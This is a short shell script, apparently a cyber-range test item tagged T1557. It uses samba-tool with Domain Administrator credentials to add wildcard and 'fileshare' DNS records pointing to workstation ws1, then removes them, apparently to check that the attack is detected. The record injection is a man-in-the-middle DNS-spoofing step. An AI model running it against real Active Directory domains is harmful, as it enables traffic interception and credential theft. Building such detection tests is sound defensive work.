# SPDX-License-Identifier: Apache-2.0
# what: names of the domain given to ws1, one of them the wildcard
# technique: T1557
# from: ws1
# to: dc1
# account: alice
# outcome: success
# must: finding directory,rpc
. "$RANGE_HERE/item.sh"
cd "$HOME"
for n in '*' fileshare; do
	says 'added' samba-tool dns add dc1.$DOMAIN_DNS $DOMAIN_DNS "$n" A $ws1 -U "CORP\\Administrator%$ADMIN_PASSWORD" || exit 1
done
for n in '*' fileshare; do
	samba-tool dns delete dc1.$DOMAIN_DNS $DOMAIN_DNS "$n" A $ws1 -U "CORP\\Administrator%$ADMIN_PASSWORD"
done
